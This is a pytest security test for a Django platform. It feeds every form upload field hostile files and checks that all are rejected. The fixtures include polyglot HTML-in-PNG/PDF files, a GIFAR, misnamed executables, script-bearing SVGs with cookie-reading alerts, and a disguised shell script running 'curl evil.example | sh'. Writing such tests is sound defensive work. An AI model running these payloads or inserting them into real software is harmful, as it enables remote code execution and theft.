"""No upload field keeps a file that is not what the platform stores.

Every file field of every form the apps define is found (see catalogue) and offered each
hostile file; a good file of some accepted kind must still get through, so a field that
refuses everything does not pass by accident.
"""

import io
import zipfile

import pytest
from django import forms
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.security.catalogue import build_form, form_classes
from tests.security.figures import report

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17)
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
CSV = b"Name,Email,Organisation\nAda Lovelace,ada@example.org,Age UK\n"
# Small enough to test quickly: every *UPLOAD_MAX_BYTES setting is lowered to this.
LIMIT = 4096


def _jar() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(16))
    return buffer.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
HOSTILE = {
    "HTML page with a PNG after it": ("photo.png", HTML + PNG, "image/png"),
    "PNG whose first chunk is an HTML page": (
        "photo.png",
        PNG + b"\x00\x00\x00\x60tEXtComment\x00" + HTML,
        "image/png",
    ),
    "PDF whose first bytes hide an HTML page": (
        "receipt.pdf",
        b"%PDF-1.4\n" + HTML,
        "application/pdf",
    ),
    "GIF with a Java archive (GIFAR)": (
        "receipt.png",
        b"GIF89a\x01\x00\x01\x00" + _jar(),
        "image/png",
    ),
    "Java archive named as a Word document": ("report.docx", _jar(), "application/msword"),
    "Linux program named .pdf": (
        "receipt.pdf",
        b"\x7fELF\x02\x01\x01\x00" + bytes(120),
        "application/pdf",
    ),
    "Windows program named .png": ("receipt.png", b"MZ\x90\x00\x03\x00" + bytes(120), "image/png"),
    "shell script named .pdf": (
        "receipt.pdf",
        b"#!/bin/sh\ncurl evil.example | sh\n",
        "application/pdf",
    ),
    "SVG with a script": (
        "chart.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<script>alert(2)</script></svg>",
        "image/svg+xml",
    ),
    "SVG with a script named .png": (
        "chart.png",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "image/png",
    ),
    "oversized PNG": ("big.png", PNG + bytes(LIMIT * 2), "image/png"),
    "oversized PDF": ("big.pdf", PDF + bytes(LIMIT * 2), "application/pdf"),
}
GOOD = {
    "PNG": ("photo.png", PNG, "image/png"),
    "PDF": ("receipt.pdf", PDF, "application/pdf"),
    "CSV": ("list.csv", CSV, "text/csv"),
}

UPLOAD_FIELDS = [
    (cls, name)
    for cls in form_classes()
    for name, field in cls.base_fields.items()
    if isinstance(field, forms.FileField)
]


@pytest.fixture(autouse=True)
def small_upload_limits(settings):
    for name in dir(django_settings):
        if name.endswith("UPLOAD_MAX_BYTES"):
            setattr(settings, name, LIMIT)


def _accepted(world, cls, field_name, upload) -> bool:
    name, content, content_type = upload
    form = build_form(
        cls, world, data={}, files={field_name: SimpleUploadedFile(name, content, content_type)}
    )
    form.is_valid()
    return field_name not in form.errors


def test_every_upload_field_is_found():
    # The receipts on budget lines, the library's files, and registration lists at least.
    assert len(UPLOAD_FIELDS) >= 3


@pytest.mark.parametrize(
    ("cls", "field_name"), UPLOAD_FIELDS, ids=[f"{c.__name__}.{n}" for c, n in UPLOAD_FIELDS]
)
def test_no_hostile_file_is_accepted(planted, cls, field_name):
    assert any(_accepted(planted, cls, field_name, good) for good in GOOD.values())
    accepted = [
        kind for kind, upload in HOSTILE.items() if _accepted(planted, cls, field_name, upload)
    ]
    report(
        f"uploads {cls.__name__}.{field_name}",
        f"{len(HOSTILE)} hostile files tried, accepted {len(accepted)} {accepted or ''}".strip(),
    )
    assert not accepted
